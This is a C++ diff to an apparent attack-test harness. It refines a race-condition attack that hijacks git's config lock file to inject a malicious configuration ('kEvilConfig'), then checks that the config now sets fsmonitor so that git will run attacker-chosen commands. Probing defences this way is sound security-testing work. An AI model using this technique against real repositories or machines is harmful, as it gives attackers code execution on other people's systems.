@@ -96,16 +96,21 @@ const Attack kLock("lock", [](Arguments arguments) {
   const bool replace = text_at(arguments, 0) == "replaced";
   const std::string lock = text_at(arguments, 1);
   const std::string config = lock.substr(0, lock.rfind('.'));
-  Attempts attempts;
-  while (attempts.more()) {
-    if (replace) ::unlink(lock.c_str());
-    const int file = ::open(lock.c_str(), replace ? O_WRONLY | O_CREAT | O_EXCL : O_WRONLY, 0644);
-    if (file < 0) continue;
-    while (!replace && exists(lock)) continue;
+  const auto write_to = [](int file) {
     if (::ftruncate(file, 0) != 0 || ::pwrite(file, kEvilConfig, std::strlen(kEvilConfig), 0) < 0) {
       stopped("write");
     }
     ::close(file);
+  };
+  Attempts attempts;
+  while (attempts.more()) {
+    for (int tries = 0; !exists(lock) && tries < 1000; ++tries) continue;
+    if (replace && ::unlink(lock.c_str()) != 0) continue;
+    const int file = ::open(lock.c_str(), replace ? O_WRONLY | O_CREAT | O_EXCL : O_WRONLY, 0644);
+    if (file < 0) continue;
+    if (replace) write_to(file);
+    for (int tries = 0; exists(lock) && tries < 100000; ++tries) continue;
+    if (!replace) write_to(file);
     if (read_file(config).find("fsmonitor") != std::string::npos) {
       through("git runs what its configuration says now");
     }
